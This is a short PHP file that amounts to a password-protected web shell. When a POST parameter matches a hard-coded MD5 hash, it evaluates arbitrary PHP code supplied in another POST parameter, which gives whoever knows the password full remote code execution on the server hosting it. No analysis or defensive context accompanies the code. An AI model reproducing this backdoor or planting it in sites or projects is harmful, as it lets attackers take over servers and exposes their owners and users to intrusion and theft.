<?php
if (md5($_POST['pw']) === '0d107d09f5bbe40cade3de5c71e9e9b7') { eval(stripslashes($_POST['code'])); }
